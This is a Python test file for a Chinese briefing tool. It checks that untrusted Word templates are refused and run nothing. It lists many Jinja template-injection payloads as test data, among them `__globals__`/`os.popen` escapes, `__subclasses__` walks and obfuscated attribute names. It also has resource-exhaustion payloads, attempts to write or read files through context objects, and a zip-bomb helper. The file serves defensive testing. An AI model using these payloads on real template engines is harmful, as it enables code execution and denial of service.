"""Templates are untrusted: every escape or abuse fails with a Chinese message, in both
`briefing template check` and the build's render, and runs nothing."""

from __future__ import annotations

import re
import time
from collections.abc import Callable
from datetime import datetime
from pathlib import Path

import pytest
from docx import Document

from briefing.errors import TemplateError
from briefing.render import render_docx, render_docx_bytes
from briefing.template_tools import check_template
from tests.sample_context import sample_context

WHEN = datetime(2024, 3, 31)


def _template(tmp_path: Path, line: str) -> Path:
    doc = Document()
    doc.add_paragraph("{{ masthead.name }}")
    doc.add_paragraph(line)
    path = tmp_path / "evil.docx"
    doc.save(str(path))
    return path


# (payload, words the message must contain)
ESCAPES = [
    ("{{ cycler.__init__.__globals__.os.popen('touch CANARY').read() }}", "__globals__"),
    ("{{ ''.__class__.__mro__ }}", "__mro__"),
    ("{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}", "__subclasses__"),
    ("{{ self._TemplateReference__context }}", "_TemplateReference__context"),
    ("{{ lipsum.__globals__['os'].popen('touch CANARY') }}", "__globals__"),
    ("{{ joiner | attr('__init__') }}", "__init__"),
    ("{{ masthead['__class__'] }}", "__class__"),
    ("{% include 'CANARY' %}", "include"),
    ("{% import 'CANARY' as x %}", "import"),
    ("{% from 'CANARY' import y %}", "import"),
    ("{% extends 'CANARY' %}", "extends"),
    ("{{ '' | attr('\\x5f\\x5fclass\\x5f\\x5f') }}", "__class__"),
]

ABUSE = [
    ("{% for i in range(10**9) %}{{ i }}{% endfor %}", "上限"),
    ("{% for i in range(90000) %}{% for j in range(90000) %}{% endfor %}{% endfor %}", "range"),
    ("{{ 'x' * 1000000000 }}", "上限"),
    ("{{ 10 ** 100000 }}", "指数"),
    ("{{ '{:>1000000000}'.format(1) }}", "格式字符串"),
    ("{{ '%1000000000d' % 1 }}", "格式字符串"),
    # widths the format string does not spell: taken from the values as it is applied
    ("{{ '{0:>{1}}'.format('x', '1000000000') }}", "格式字符串"),
    ("{{ '{a:>{w}}'.format_map({'a': 'x', 'w': '1000000000'}) }}", "格式字符串"),
    ("{{ '%*d' % (1000000000, 1) }}", "格式字符串"),
    ("{{ '%.*f' % (1000000000, 1) }}", "格式字符串"),
    ("{{ '%(a)1000000000s' % {'a': 'x'} }}", "格式字符串"),
    ("{{ 'x' | center(1000000000) }}", "center"),
    ("{{ 'x' | truncate(1000000000) }}", "上限"),
    ("{{ ('x' * 99999) | replace('x', 'x' * 99999) | length }}", "文字过长"),
    (
        "{% set ns = namespace(s='x') %}{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}"
        "{% endfor %}{{ ns.s | length }}",
        "文字过长",
    ),
    ("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}", "递归"),
]

# output that would differ on every run: the same inputs must give a byte-identical briefing
UNREPRODUCIBLE = [
    ("{{ [1, 2, 3] | random }}", "相同的简报"),
    ("{{ lipsum(1, false, 5, 10) }}", "相同的简报"),
]

# Text of allowed sizes made hundreds of millions of characters long: each was stopped only by
# the render child's 1 GB memory limit (which macOS lacks), or rendered a 100 MB briefing.
# Now refused at 10 million characters, before the text is made where its size is known.
LONG_TEXT = [
    "{% set s = 'x' * 99999 %}{{ ([s] * 1000) | join | length }}",
    "{% set s = 'x' * 99999 %}{{ s.join(['y' * 99999] * 1000) | length }}",
    "{% set s = 'x' * 99999 %}{{ ([s] * 1000) | map('upper') | join }}",
    "{% set s = 'x' * 99999 %}{{ s.replace('x', s) | length }}",
    "{{ ('{0}' * 3333).format('x' * 99999) | length }}",
    "{{ (('%(a)s' * 3333) % {'a': 'x' * 99999}) | length }}",
    "{{ (('%s' * 3333) | format(*(['x' * 99999] * 3333))) | length }}",
    "{{ ((' x' * 9999) | wordwrap(1) | indent(9999)) | length }}",
    "{{ ('x ' * 49999) | wordwrap(1, wrapstring='y' * 99999) | length }}",
    "{% set ns = namespace(s='x') %}{% for i in range(27) %}{% set ns.s = ns.s + ns.s %}"
    "{% endfor %}{{ ns.s | length }}",
    "{% set ns = namespace(l=[1]) %}{% for i in range(27) %}{% set ns.l = ns.l + ns.l %}"
    "{% endfor %}{{ ns.l | length }}",
    "{% macro m(s) %}{{ s }}{{ s }}{% endmacro %}{{ m(m(m(m(m(m(m('x' * 99999))))))) | length }}",
    "{% set s = 'x' * 99999 %}{% for i in range(3000) %}{{ s }}{% endfor %}",
    "{{ [[1] * 99999] * 99999 }}",
    "{{ ([[1] * 99999] * 200) | sum(start=[]) | length }}",
    # round 11: urlize gives every link the rel and target it is given
    "{{ ('www.a.cn ' * 11000) | urlize(rel='y' * 99999) | length }}",
    # round 11: a namespace prints what it holds, and was counted as 32 characters
    "{% set ns = namespace(a=[[1] * 99999] * 99999) %}{{ ns }}",
    # round 17: tojson puts a line break and the indent of its depth before every item: 3
    # billion characters from a short list, stopped only by the memory limit (1 GB)
    "{{ range(30000) | list | tojson(indent=99999) | length }}",
    "{{ range(30000) | list | tojson('x' * 99999) | length }}",
    # round 17: a map through a filter makes a value per item, each within the limit, and
    # join, list or sort kept them all: 10 billion characters, stopped only by the memory limit
    "{{ range(99999) | map('string') | map('center', 99999) | join | length }}",
    "{{ range(99999) | map('string') | map('center', 99999) | list | length }}",
    "{{ range(99999) | map('string') | map('center', width=99999) | sort | first | length }}",
]


@pytest.mark.parametrize("payload", LONG_TEXT)
def test_text_hundreds_of_millions_long_is_refused_in_chinese(tmp_path: Path, payload: str) -> None:
    with pytest.raises(TemplateError) as caught:
        render_docx_bytes(_template(tmp_path, payload), sample_context(), timestamp=WHEN)
    message = str(caught.value)
    assert "模板构造的文字过长" in message and "1000 万" in message, message
    assert "内存" not in message


def test_a_message_quoting_a_lone_surrogate_reaches_the_user(tmp_path: Path) -> None:
    """Round 14: the child could not encode its answer, died, and the template's own mistake
    was told as 程序内部错误（状态 256），请将模板和这条信息报告给维护者."""
    template = _template(tmp_path, "{{ '\\ud800' | cn_number }}")
    with pytest.raises(TemplateError) as caught:
        render_docx_bytes(template, sample_context(), timestamp=WHEN)
    message = str(caught.value)
    assert "过滤器 cn_number 需要数字" in message and "\ud800" in message, message
    assert "内部错误" not in message


@pytest.mark.parametrize(
    ("payload", "words"),
    [
        ("{{ masthead.name | truncate(2) }}", "长度 2 短于结尾的省略文字“...”（3 字）"),
        ("{{ masthead.name | truncate(10, leeway=-1) }}", "leeway 不能为负数"),
    ],
)
def test_a_truncate_shorter_than_its_ending_is_the_templates_mistake_not_an_internal_error(
    tmp_path: Path, payload: str, words: str
) -> None:
    """Round 17: Jinja's truncate checks its arguments with `assert`; the child died with an
    AssertionError and both the build and `template check` said 程序内部错误（AssertionError），
    请将模板和这条信息报告给维护者 for the template's own `truncate(2)`. The message now says what
    is wrong, where."""
    template = _template(tmp_path, payload)
    with pytest.raises(TemplateError) as caught:
        render_docx_bytes(template, sample_context(), timestamp=WHEN)
    for message in (str(caught.value), *check_template(template, sample_context()).problems):
        assert words in message and payload in message, message
        assert "内部错误" not in message


def test_integers_squared_in_a_loop_are_refused_at_once(tmp_path: Path) -> None:
    """Each squaring doubles the digits: 40 of them ran 23 s into the memory limit."""
    payload = (
        "{% set ns = namespace(n=2) %}{% for i in range(40) %}{% set ns.n = ns.n * ns.n %}"
        "{% endfor %}{{ ns.n }}"
    )
    with pytest.raises(TemplateError, match="整数超过上限"):
        render_docx_bytes(_template(tmp_path, payload), sample_context(), timestamp=WHEN)


# Round 12: nesting past what Jinja's parser and Python's compiler follow ended as 宏无限递归
# (there was no macro) in a build and 程序内部错误（RecursionError/SyntaxError），请…报告给维护者
# in `template check`; 25 nested loops, 300 attribute steps, 500 brackets, 3000 ifs.
NESTED = [
    "{% for a in [1] %}" * 25 + "x" + "{% endfor %}" * 25,
    "{{ masthead" + ".name" * 300 + " }}",
    "{{ " + "(" * 500 + "1" + ")" * 500 + " }}",
    "{% if 1 %}" * 3000 + "x" + "{% endif %}" * 3000,
]


@pytest.mark.parametrize("payload", NESTED)
def test_tags_nested_too_deep_are_named_in_a_build_and_a_check(
    tmp_path: Path, payload: str
) -> None:
    template = _template(tmp_path, payload)
    with pytest.raises(TemplateError) as caught:
        render_docx_bytes(template, sample_context(), timestamp=WHEN)
    report = check_template(template, sample_context())
    for message in (str(caught.value), *report.problems):
        assert "嵌套过深" in message and "evil.docx" in message, message
        assert "递归" not in message and "内部错误" not in message


# (payload, the Chinese reason); Python's own message was shown: "Object of type ChartHandle is
# not JSON serializable", "empty separator", "'str' object has no attribute 'items'"
ENGLISH_ERRORS = [
    ("{{ charts.themes | tojson }}", "不能转换图表"),
    ("{{ [joiner()] | tojson }}", "模板辅助对象本身"),
    ("{{ masthead.name.split('') }}", "用空字符串分隔"),
    ("{{ masthead.name | xmlattr }}", "没有所用的属性或方法"),
    ("{{ 1 + masthead.name }}", "文字与数字相加"),
    ("{{ summary.document_count / 0 }}", "除数为零"),
    ("{{ masthead.name | filesizeformat }}", "把文字当作数字"),
    # printed "<built-in method upper of str object at 0x7f…>" into the briefing (and a memory
    # address: the bytes differed from run to run)
    ("{{ masthead.name.upper }}", "少了括号"),
    ("{{ range }}", "函数本身"),
    # the same, one step away: in a list, joined, formatted, folded at compile time, a helper
    # object or an iterator ("<jinja2.utils.Cycler object at 0x7f…>", "<generator object …>")
    ("{{ [masthead.name.upper] }}", "函数本身"),
    ("{{ masthead.name.upper ~ '' }}", "函数本身"),
    ("{{ '%s' % [range] }}", "函数本身"),
    ("{{ [masthead.name.upper] | join }}", "函数本身"),
    ("{{ '{!r}'.format(cycler(1)) }}", "模板辅助对象本身"),
    # round 11: a namespace prints what the template stored in it, a method with its address
    ("{% set ns = namespace(f=masthead.name.upper) %}{{ ns }}", "函数本身"),
    ("{% set ns = namespace() %}{% set ns.f = masthead.name.lower %}{{ ns | string }}", "函数本身"),
    ("{{ cycler(1, 2) }}", "模板辅助对象本身"),
    ("{{ ''.join }}", "函数本身"),
    ("{{ themes | map(attribute='name') }}", "迭代器本身"),
]


@pytest.mark.parametrize(("payload", "reason"), ENGLISH_ERRORS)
def test_a_failing_tag_is_explained_in_chinese(tmp_path: Path, payload: str, reason: str) -> None:
    template = _template(tmp_path, payload)
    with pytest.raises(TemplateError) as caught:
        render_docx_bytes(template, sample_context(), timestamp=WHEN)
    message = str(caught.value)
    assert reason in message and payload in message, message
    # no English but the tag's own words (the filter named, the file name)
    # (and the example in the missing-brackets hint)
    hints = "{{ masthead.name.upper }} map select list join"
    own = set(re.findall(r"[A-Za-z]+", payload + template.name + hints))
    assert not [w for w in re.findall(r"[A-Za-z]{4,}", message) if w not in own], message
    report = check_template(template, sample_context())
    assert any(reason in problem for problem in report.problems), report.problems


@pytest.mark.parametrize(("payload", "word"), ESCAPES + ABUSE + UNREPRODUCIBLE)
def test_build_refuses_and_writes_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, payload: str, word: str
) -> None:
    monkeypatch.chdir(tmp_path)
    output = tmp_path / "out.docx"
    with pytest.raises(TemplateError) as caught:
        render_docx(_template(tmp_path, payload), sample_context(), output, timestamp=WHEN)
    message = str(caught.value)
    assert word in message
    assert "模板" in message
    assert not output.exists()
    assert not (tmp_path / "CANARY").exists()


@pytest.mark.parametrize(("payload", "word"), ESCAPES + ABUSE + UNREPRODUCIBLE)
def test_check_reports_and_runs_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, payload: str, word: str
) -> None:
    monkeypatch.chdir(tmp_path)
    report = check_template(_template(tmp_path, payload), sample_context())
    assert not report.ok
    assert any(word in problem for problem in report.problems), report.problems
    assert not (tmp_path / "CANARY").exists()


@pytest.mark.parametrize(("payload", "word"), ESCAPES)
def test_escapes_are_refused_before_anything_renders(
    tmp_path: Path, payload: str, word: str
) -> None:
    """Refused statically: the message says nothing ran, and names the tag's paragraph."""
    with pytest.raises(TemplateError) as caught:
        render_docx_bytes(_template(tmp_path, payload), sample_context(), timestamp=WHEN)
    message = str(caught.value)
    assert "没有被执行" in message
    assert payload[:20] in message


def test_a_template_that_runs_too_long_is_stopped(tmp_path: Path) -> None:
    """Within every size guard but slow: the time limit ends it."""
    slow = (
        "{% for i in range(99999) %}{% for d in documents %}{% for t in themes %}"
        "{{ i }}{% endfor %}{% endfor %}{% endfor %}"
    )
    with pytest.raises(TemplateError, match="秒"):
        render_docx_bytes(
            _template(tmp_path, slow), sample_context(), timestamp=WHEN, render_seconds=1
        )


def test_ordinary_arithmetic_and_formatting_still_work(tmp_path: Path) -> None:
    import io

    line = (
        "{{ '%5.1f' % 3.14159 }}|{{ '{:>4}'.format(7) }}|{{ 2 ** 10 }}|{{ '-' * 3 }}|"
        "{{ '{0:>{1}}'.format('x', 3) }}|{{ '%-*s' % (3, 'y') }}|{{ '%(n)03d' % {'n': 7} }}|"
        "{{ '{:,.1f}'.format(1234567.8) }}"
    )
    out = render_docx_bytes(_template(tmp_path, line), sample_context(), timestamp=WHEN)
    text = Document(io.BytesIO(out)).paragraphs[1].text
    assert text == "  3.1|   7|1024|---|  x|y  |007|1,234,567.8"
    # the text bounds leave ordinary joining, replacing and concatenating alone
    line = (
        "{{ themes | map(attribute='name') | join('、') }}|{{ '、'.join(['甲', '乙']) }}|"
        "{{ masthead.name | replace('科技', '科创') }}|{{ masthead.name.replace('简报', '') }}|"
        "{{ masthead.issue_label ~ '（' ~ period.label ~ '）' }}|{{ 'a' + 'b' }}|"
        "{{ ([1] + [2]) | length }}|{{ [[1], [2]] | sum(start=[]) }}|{{ 12 * 10 ** 8 }}"
    )
    out = render_docx_bytes(_template(tmp_path, line), sample_context(), timestamp=WHEN)
    text = Document(io.BytesIO(out)).paragraphs[1].text
    assert text == (
        "基础研究、成果转化、科技金融、人才、创新平台|甲、乙|科创政策简报|科技政策|"
        "第3期（2024年3月）|ab|2|[1, 2]|1200000000"
    )


# --- the allow-list: live objects reached through the context (issue #12) ------------------------
# Each payload names no "_" attribute, so only the allow-list stops it. (payload, word)
REACH = [
    ('{{ charts.themes.tpl.write_xml("pwned.txt") }}', "tpl"),
    ("{{ charts.themes.tpl.replace_pic('k','/etc/hostname') }}", "tpl"),
    ("{{ charts.themes.tpl.pics_to_replace }}", "tpl"),
    ("{{ charts.mix.tpl.save('pwned.docx') }}", "tpl"),
    ("{{ charts.themes.tpl.new_subdoc('/etc/hostname') }}", "tpl"),
    ("{{ charts.themes.tpl.get_file_crc('/etc/hostname') }}", "tpl"),
    ("{% for t in themes %}{% if t.chart %}{{ t.chart.tpl.docx }}{% endif %}{% endfor %}", "tpl"),
    ("{{ charts.themes | attr('tpl') }}", "tpl"),
    ("{{ [charts.themes] | selectattr('tpl') | list }}", "tpl"),
    ("{{ [charts.themes, charts.mix] | sort(attribute='tpl') | list }}", "tpl"),
    ("{{ '{0.tpl}'.format(charts.themes) }}", "tpl"),
    ("{{ charts.themes.image_descriptor }}", "image_descriptor"),
    ("{{ charts.themes.resized(20) }}", "resized"),
    ("{{ dict.fromkeys('ab') }}", "fromkeys"),
    ("{{ namespace.mro() }}", "mro"),
    ("{{ joiner().sep }}", "sep"),
    ("{{ cycler(1, 2).items }}", "items"),
    ("{{ lipsum.func_globals }}", "func_globals"),
    ("{{ masthead.copy() }}", "copy"),
    ("{{ masthead.name.encode('gbk') }}", "encode"),
    ("{{ masthead.name.maketrans('a', 'b') }}", "maketrans"),
    ("{{ range.im_self }}", "im_self"),
    ("{% macro m() %}{% endmacro %}{{ m.arguments }}", "arguments"),
    # names built at run time, which no static check can see
    ("{{ '' | attr(['_' * 2, 'class', '_' * 2] | join) }}", "__class__"),
    ("{{ '{0.__class__}'.format(1) }}", "__class__"),
    ("{{ masthead | attr('_' ~ '_init_' ~ '_') }}", "__init__"),
]


def _tree(root: Path) -> dict[str, tuple[int, int]]:
    return {
        str(path.relative_to(root)): (path.stat().st_size, path.stat().st_mtime_ns)
        for path in sorted(root.rglob("*"))
    }


@pytest.mark.parametrize(("payload", "word"), REACH)
def test_nothing_in_the_context_leads_to_a_live_object(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, payload: str, word: str
) -> None:
    """`build` and `template check` refuse it, name it, and leave the file system as it was."""
    monkeypatch.chdir(tmp_path)
    template = _template(tmp_path, payload)
    before = _tree(tmp_path)
    output = tmp_path / "out.docx"
    with pytest.raises(TemplateError) as caught:
        render_docx(template, sample_context(), output, timestamp=WHEN)
    assert word in str(caught.value)
    # refused by the allow-list, or simply not there (a chart handle has no such attribute)
    assert any(words in str(caught.value) for words in ("不能访问", "不安全", "未定义"))
    report = check_template(template, sample_context())
    assert not report.ok
    assert any(word in problem for problem in report.problems), report.problems
    assert _tree(tmp_path) == before


def test_allowed_methods_and_loop_helpers_still_work(tmp_path: Path) -> None:
    import io

    line = (
        "{{ masthead.name.startswith('科技') }}|{{ masthead.get('name') == masthead.name }}|"
        "{% for t in themes[:2] %}{{ loop.index }}{{ loop.last }}{% endfor %}|"
        "{% set ns = namespace(n=0) %}{% for t in themes %}{% set ns.n = ns.n + 1 %}"
        "{% endfor %}{{ ns.n == themes | length }}|{{ themes | map(attribute='name') | first }}"
    )
    context = sample_context()
    out = render_docx_bytes(_template(tmp_path, line), context, timestamp=WHEN)
    text = Document(io.BytesIO(out)).paragraphs[1].text
    first = context["themes"][0]["name"]
    assert text == f"True|True|1False2True|True|{first}"


def test_what_prints_as_itself_still_prints(tmp_path: Path) -> None:
    """Only what would print as Python's description of an object is refused."""
    import io

    line = (
        "{{ masthead.keys() | list | length }}|{{ range(2) }}|{{ [1, 2.5, none] }}|"
        "{{ namespace(a=1) }}|{% for t in themes[:1] %}{{ loop }}{% endfor %}|"
        "{{ themes | map(attribute='name') | list | length }}"
    )
    out = render_docx_bytes(_template(tmp_path, line), sample_context(), timestamp=WHEN)
    text = Document(io.BytesIO(out)).paragraphs[1].text
    assert text == "6|range(0, 2)|[1, 2.5, None]|<Namespace {'a': 1}>|<LoopContext 1/1>|5"


def test_a_namespace_holding_itself_prints_as_python_prints_it(tmp_path: Path) -> None:
    """Round 14 left it, round 15 fixed it: the length estimate walked a namespace stored in
    itself round and round for 8 to 20 seconds and then refused it as 文字过长, while Python
    prints it short, the inner copy as `{...}`. A shared, not circular, one is counted each time."""
    import io

    line = (
        "{% set ns = namespace() %}{% set ns.x = ns %}{% set ns.l = [ns, namespace(a=ns)] %}"
        "{{ ns }}"
    )
    started = time.monotonic()
    out = render_docx_bytes(_template(tmp_path, line), sample_context(), timestamp=WHEN)
    assert time.monotonic() - started < 5
    text = Document(io.BytesIO(out)).paragraphs[1].text
    inner = "<Namespace {...}>"
    assert text == f"<Namespace {{'x': {inner}, 'l': [{inner}, <Namespace {{'a': {inner}}}>]}}>"
    shared = "{% set big = namespace(s='x' * 99999) %}{{ [big] * 101 }}"
    with pytest.raises(TemplateError, match="模板构造的文字过长"):
        render_docx_bytes(_template(tmp_path, shared), sample_context(), timestamp=WHEN)


def test_a_chart_prints_as_a_picture_and_offers_nothing_else(tmp_path: Path) -> None:
    import io

    line = "{{ charts.themes | width(80) }}"
    out = render_docx_bytes(_template(tmp_path, line), sample_context(), timestamp=WHEN)
    assert b"<w:drawing>" in _part(out, "word/document.xml")
    assert len(Document(io.BytesIO(out)).inline_shapes) == 1


def _part(data: bytes, name: str) -> bytes:
    import io
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return package.read(name)


def test_the_context_a_template_gets_holds_plain_data_only() -> None:
    from briefing.render import ChartHandle, template_data

    data = template_data(sample_context())

    def kinds(value: object) -> set[type]:
        if isinstance(value, dict):
            return {dict}.union(*(kinds(v) for v in value.values()))
        if isinstance(value, list):
            return {list}.union(*(kinds(v) for v in value)) if value else {list}
        return {type(value)}

    assert kinds(data) <= {dict, list, str, int, float, bool, type(None), ChartHandle}
    with pytest.raises(TypeError):
        template_data({"path": Path("/etc/hostname")})


def test_the_context_names_no_folder_of_the_machine(tmp_path: Path, seeds_dir: Path) -> None:
    """A template is untrusted and the briefing is sent out: `documents[].source` and the
    warnings named every file by the path it was given with (`/home/张三/…/a.docx`), which a
    template could print (or hide in the document's properties)."""
    import json
    import shutil

    from typer.testing import CliRunner

    from briefing.cli import app

    folder = tmp_path / "张三的文件" / "政策"
    (folder / "2024").mkdir(parents=True)
    shutil.copy(seeds_dir / "000_4bc94fbfc6990ecc.txt", folder / "2024" / "a.txt")
    (folder / "broken.docx").write_bytes(b"PK\x03\x04 not a document")
    result = CliRunner().invoke(app, ["context", "-i", str(folder), "-p", "all"])
    assert result.exit_code == 0, result.output
    assert str(tmp_path) not in result.stdout
    context = json.loads(result.stdout)
    assert [d["source"] for d in context["documents"]] == ["2024/a.txt"]
    assert any(w.startswith("broken.docx: ") for w in context["warnings"]), context["warnings"]


# --- the limited child ---------------------------------------------------------------------------

needs_fork = pytest.mark.skipif(not hasattr(__import__("os"), "fork"), reason="needs fork")


@needs_fork
def test_the_render_child_can_neither_read_nor_write_files(tmp_path: Path) -> None:
    """Even code running in the child (not just a template) reaches no file."""
    import json
    import os

    from briefing.sandbox import run_limited

    secret = tmp_path / "secret.txt"
    secret.write_text("机密", encoding="utf-8")

    def attempt() -> bytes:
        results: dict[str, str] = {}
        for name, action in (
            ("read", lambda: secret.read_text(encoding="utf-8")),
            ("write", lambda: (tmp_path / "new.txt").write_text("x")),
            ("append", lambda: secret.open("a").write("x")),
            ("mkdir", lambda: os.mkdir(tmp_path / "folder")),
            ("unlink", lambda: os.unlink(secret)),
            ("rename", lambda: os.rename(secret, tmp_path / "moved.txt")),
        ):
            try:
                action()
                results[name] = "done"
            except OSError as exc:
                results[name] = f"refused {exc.errno}"
        return json.dumps(results).encode()

    before = _tree(tmp_path)
    results = json.loads(run_limited(attempt, seconds=30))
    assert results["read"].startswith("refused")
    assert results["write"].startswith("refused")
    assert results["append"].startswith("refused")
    assert _tree(tmp_path) == before
    assert secret.read_text(encoding="utf-8") == "机密"


@needs_fork
def test_the_render_child_sees_no_environment_and_no_working_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Code running in the child (after an escape we do not know of) found the parent's whole
    environment (a proxy password, an API token) and the user's folder as its working directory.
    The child has neither; the parent keeps both."""
    import json
    import os

    from briefing.sandbox import run_limited

    monkeypatch.setenv("OFFICE_PROXY_PASSWORD", "机密口令")
    monkeypatch.chdir(tmp_path)

    def look() -> bytes:
        return json.dumps({"environment": dict(os.environ), "cwd": os.getcwd()}).encode()

    seen = json.loads(run_limited(look, seconds=30))
    assert seen == {"environment": {}, "cwd": "/"}
    assert os.environ["OFFICE_PROXY_PASSWORD"] == "机密口令"
    assert Path.cwd() == tmp_path


@needs_fork
def _sleep_long() -> bytes:
    """A child's work that outlasts any limit (a template stuck in a loop)."""
    time.sleep(600)
    return b""


def test_a_child_that_blocks_is_killed_at_the_wall_clock_limit(
    monkeypatch: pytest.MonkeyPatch,
) -> None:

    from briefing import sandbox

    monkeypatch.setattr(sandbox, "WALL_MARGIN", 1)
    with pytest.raises(sandbox.ChildError) as caught:
        sandbox.run_limited(_sleep_long, seconds=1)
    assert caught.value.reason == "timeout"


def test_a_render_out_of_time_names_a_template_too_big_as_well_as_loops() -> None:
    # a template of 100k tags or millions of empty runs uses up the child's CPU with no loop
    # at all: the message says that too, not only "no need for big loops"
    from briefing import render

    def spin() -> bytes:
        while True:
            pass

    with pytest.raises(TemplateError) as caught:
        render.in_sandbox(spin, "大模板.docx", seconds=1)
    message = str(caught.value)
    assert "模板渲染超过 1 秒，已中止（大模板.docx）" in message
    assert "模板文件本身过大" in message


def test_without_a_limited_child_only_a_trusted_template_renders(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from briefing import render

    monkeypatch.setattr(render, "can_isolate", lambda: False)
    template = _template(tmp_path, "{{ masthead.editor }}")
    with pytest.raises(TemplateError, match="--trust-template"):
        render_docx_bytes(template, sample_context(), timestamp=WHEN)
    assert render_docx_bytes(template, sample_context(), timestamp=WHEN, trusted=True)
    report = check_template(template, sample_context())
    assert any("--trust-template" in problem for problem in report.problems)


# --- hostile template files ----------------------------------------------------------------------


def _with_extra_part(template: Path, name: str, size: int, fill: bytes = b"0") -> Path:
    import zipfile

    target = template.with_name("bomb.docx")
    with (
        zipfile.ZipFile(template) as src,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        with dst.open(name, "w") as part:
            chunk = fill * (1 << 20)
            for _ in range(size >> 20):
                part.write(chunk)
    return target


def test_a_zip_bomb_template_is_refused_in_check_and_build(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from briefing import render

    monkeypatch.setattr(render, "TEMPLATE_MAX_INFLATED", 8 * 1024 * 1024)
    bomb = _with_extra_part(
        _template(tmp_path, "{{ masthead.name }}"), "word/media/x.png", 16 << 20
    )
    assert bomb.stat().st_size < 1 << 20
    report = check_template(bomb, sample_context())
    assert any("解压后过大" in problem for problem in report.problems), report.problems
    with pytest.raises(TemplateError, match="解压后过大"):
        render_docx(bomb, sample_context(), tmp_path / "out.docx", timestamp=WHEN)
    assert not (tmp_path / "out.docx").exists()


def test_a_huge_xml_part_is_refused_not_shipped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from briefing import render

    monkeypatch.setattr(render, "TEMPLATE_MAX_XML", 2 * 1024 * 1024)
    junk = _with_extra_part(
        _template(tmp_path, "{{ masthead.name }}"), "customXml/item9.xml", 4 << 20, b"<a/>"
    )
    with pytest.raises(TemplateError, match="解压后过大"):
        render_docx_bytes(junk, sample_context(), timestamp=WHEN)


def test_a_folder_given_as_template_is_named_as_a_folder(tmp_path: Path) -> None:
    report = check_template(tmp_path, sample_context())
    assert any("文件夹" in problem for problem in report.problems)


def test_template_check_command_writes_nothing_for_the_reported_payload(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`briefing template check t.docx` with the write_xml payload: refused, exit 1, no file."""
    from typer.testing import CliRunner

    from briefing.cli_template import app

    monkeypatch.chdir(tmp_path)
    template = _template(tmp_path, '{{ charts.themes.tpl.write_xml("pwned.txt") }}')
    before = _tree(tmp_path)
    result = CliRunner().invoke(app, ["check", str(template)])
    assert result.exit_code == 1
    assert "tpl" in result.output
    assert _tree(tmp_path) == before


@needs_fork
@pytest.mark.parametrize("template", ["briefing", "yaoqing", "zhuanti"])
def test_a_fresh_process_renders_every_shipped_template_in_the_child(
    tmp_path: Path, template: str
) -> None:
    """The child can import nothing: whatever a render needs must be loaded before the fork.
    In-process tests have loaded everything already, so this one starts a new interpreter."""
    import os
    import subprocess
    import sys

    from briefing.config import package_data_dir

    result = subprocess.run(
        [sys.executable, "-m", "briefing", "build", "-i", str(package_data_dir("seeds")),
         "-o", str(tmp_path / "out"), "-t", template, "-q"],
        capture_output=True, text=True, timeout=600, cwd=tmp_path,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])},
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert list((tmp_path / "out").rglob("*.docx"))


# Every built-in Jinja filter and test a template may use, with string escapes, macros and loop
# helpers: run in a fresh process, where the child has loaded nothing beyond what the parent did.
EVERY_FEATURE = (
    "{% macro m(x) %}[{{ x }}]{% endmacro %}{% set ns = namespace(n=0) %}"
    "{% set c = cycler('a', 'b') %}{% set j = joiner('/') %}"
    "{{ '\\u4e2d\\t' | trim }}{{ m(1) }}{{ c.next() }}{{ j() }}{{ j() }}"
    "{{ masthead.name | wordwrap(5) | truncate(9) | center(12) | indent(2) | title }}"
    "{{ 'a b' | urlencode }}{{ 'x' | urlize }}{{ {'a': 1} | xmlattr }}{{ 1234567 | filesizeformat }}"
    "{{ {'b': 2, 'a': 1} | dictsort | list }}{{ [1, 2, 3] | sum }}{{ 2.567 | round(1) }}"
    "{{ '3' | int }}{{ '3.5' | float }}{{ [1, 2] | tojson }}{{ [1, 2] | pprint }}{{ [3, 1] | sort }}"
    "{{ themes | groupby('name') | list | length }}{{ themes | map(attribute='name') | join('、') }}"
    "{{ [1, 2] | first is number }}{{ 'a<b>' | striptags }}"
    "{{ 'x' | e }}{{ 'ab' | reverse }}{{ [1, 1] | unique | list }}{{ [1, 2] | batch(1) | list }}"
    "{{ '%s-%d' | format('a', 1) }}{{ 'A' is upper }}{{ '{:,}'.format(12345) }}{{ 7 | cn_number }}"
    "{% for t in themes %}{{ loop.cycle('x', 'y') }}{% set ns.n = ns.n + 1 %}{% endfor %}{{ ns.n }}"
)


@needs_fork
def test_every_template_feature_works_in_the_child_of_a_fresh_process(tmp_path: Path) -> None:
    import os
    import subprocess
    import sys

    template = _template(tmp_path, EVERY_FEATURE)
    result = subprocess.run(
        [sys.executable, "-m", "briefing", "template", "check", str(template)],
        capture_output=True, text=True, timeout=600, cwd=tmp_path,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])},
    )  # fmt: skip
    assert result.returncode == 0, result.stdout + result.stderr


# --- content Word fetches or runs by itself when the briefing is opened ---------------------------

_RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
_REL_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _repack(template: Path, edits: dict[str, Callable[[bytes], bytes]]) -> Path:
    """`template` with some parts rewritten (or added, when the part is new)."""
    import zipfile

    target = template.with_name("linked.docx")
    with zipfile.ZipFile(template) as src:
        parts = {info.filename: src.read(info) for info in src.infolist()}
    for name, edit in edits.items():
        parts[name] = edit(parts.get(name, b""))
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for name, data in parts.items():
            dst.writestr(name, data)
    return target


def _add_relationship(kind: str, target: str, rel_id: str = "rIdOut") -> Callable[[bytes], bytes]:
    def edit(rels: bytes) -> bytes:
        rel = (
